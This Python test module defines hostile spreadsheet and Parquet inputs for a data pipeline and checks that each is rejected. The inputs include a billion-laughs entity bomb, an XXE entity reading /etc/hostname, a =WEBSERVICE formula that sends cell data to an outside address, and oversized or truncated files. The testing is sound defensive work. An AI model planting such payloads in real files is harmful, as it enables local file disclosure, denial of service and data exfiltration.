"""Workbooks and Parquet files that are broken, too large, ambiguous or alive; joins that could be guessed."""

import csv
import io
import zipfile
from collections.abc import Callable

import openpyxl
import pandas as pd

from attacks.scene import Answer, Attack, Scene

Rows = list[list[str]]
Bytes = Callable[[Rows], bytes]
SHEET = "xl/worksheets/sheet1.xml"


def _train(made: Bytes, name: str, *more: str) -> Callable[[Scene], list[str]]:
    """The archive's store and pipeline, with another file as the cohort table."""

    def arrange(scene: Scene) -> list[str]:
        scene.archived("unsealed.zarr")
        scene.archived("images")
        with (scene.folder / "images" / "participants.tsv").open(newline="") as file:
            rows = list(csv.reader(file, delimiter="\t"))
        (scene.folder / name).write_bytes(made(rows))
        cohort = ["--set", f"aggregate.cohort={scene.folder / name}"]
        more_set = [part for value in more for part in ("--set", value)]
        return [str(scene.archived("pipeline.yaml")), *cohort, *more_set]

    return arrange


def _book(edit: Callable[[openpyxl.Workbook], object] | None = None) -> Bytes:
    def made(rows: Rows) -> bytes:
        book = openpyxl.Workbook()
        for row in rows:
            book.active.append([float(cell) if cell.replace(".", "").isdigit() else cell for cell in row])
        if edit is not None:
            edit(book)
        out = io.BytesIO()
        book.save(out)
        return out.getvalue()

    return made


def _with_part(name: str, content: Callable[[bytes], bytes]) -> Bytes:
    """A workbook of which one part is another."""

    def made(rows: Rows) -> bytes:
        with zipfile.ZipFile(io.BytesIO(_book()(rows))) as archive:
            parts = {each: archive.read(each) for each in archive.namelist()}
        parts[name] = content(parts.get(name, b""))
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
            for each, data in parts.items():
                archive.writestr(each, data)
        return out.getvalue()

    return made


def _parquet(change: Callable[[pd.DataFrame], pd.DataFrame] = lambda frame: frame) -> Bytes:
    def made(rows: Rows) -> bytes:
        out = io.BytesIO()
        change(pd.DataFrame(rows[1:], columns=rows[0])).to_parquet(out)
        return out.getvalue()

    return made


LAUGHS = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b0 "ha">%s]><a>&b40;</a>' % b"".join(
    b'<!ENTITY b%d "&b%d;&b%d;">' % (n, n - 1, n - 1) for n in range(1, 41)
)
OUTSIDE = (
    b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/hostname">]>'
    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    b'<row r="1"><c r="A1" t="inlineStr"><is><t>&x;</t></is></c></row></sheetData></worksheet>'
)
RUNS = '=WEBSERVICE("http://192.0.2.1/"&A1)'


def _trained(scene: Scene, answer: Answer) -> None:
    assert (scene.folder / "run" / "train" / "metrics.json").is_file()


def _twice(scene: Scene) -> list[str]:
    """A further table with two rows for somebody, which differ."""
    (scene.folder / "apoe.csv").write_text("participant_id,e4\nsub-00,0\nsub-01,1\nsub-00,1\n")
    table = scene.folder / "apoe.csv"
    ask = f"aggregate.join.tables=[{{table: {table}, by: participant_id}}]"
    return _train(_book(), "p.xlsx", ask)(scene)


ATTACKS = [
    Attack("a workbook as the cohort", "train", _train(_book(), "p.xlsx"), r"report", 0, check=_trained),
    Attack("a Parquet file called .csv", "train", _train(_parquet(), "p.csv"), r"report", 0, check=_trained),
    Attack(
        "styles of 17 MiB",
        "detect",
        _train(_with_part("xl/styles.xml", lambda _: bytes(17 << 20)), "p.xlsx"),
        r"styles.xml' unpacks to 17 MiB",
    ),
    Attack(
        "entities that grow without end",
        "train",
        _train(_with_part(SHEET, lambda _: LAUGHS), "p.xlsx"),
        r"is no workbook that can be read",
    ),
    Attack(
        "an entity that is a file of this machine",
        "train",
        _train(_with_part(SHEET, lambda _: OUTSIDE), "p.xlsx"),
        r"is no workbook that can be read|has no rows",
    ),
    Attack(
        "a formula that asks the web",
        "train",
        _train(_book(lambda book: book.active.cell(2, 2, RUNS)), "p.xlsx"),
        r"B2 is a formula without a value, and nothing is computed here",
    ),
    Attack(
        "a sheet too many",
        "train",
        _train(_book(lambda book: book.create_sheet("old")), "p.xlsx"),
        r"has 2 sheets: say which by sheet: \(there are 'Sheet', 'old'\)",
    ),
    Attack(
        "half a workbook",
        "train",
        _train(lambda rows: _book()(rows)[:3000], "p.xlsx"),
        r"is no workbook that can be read: it is a broken zip",
    ),
    Attack(
        "an .xls of 1997",
        "train",
        _train(lambda rows: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512), "p.xls"),
        r"is an old .xls workbook",
    ),
    Attack(
        "Parquet whose footer is cut",
        "train",
        _train(lambda rows: _parquet()(rows)[:-100] + b"PAR1", "p.parquet"),
        r"is no Parquet file that can be read",
    ),
    Attack(
        "two million rows of nobody",
        "train",
        _train(_parquet(lambda _: pd.DataFrame({"participant_id": [""] * 2_000_000})), "p.parquet"),
        r"has more than 1048576 rows",
    ),
    Attack(
        "a further table with two rows for somebody",
        "train",
        _twice,
        r"apoe.csv has several rows for 00 of p.xlsx, which differ in e4; which one holds is not clear",
    ),
]
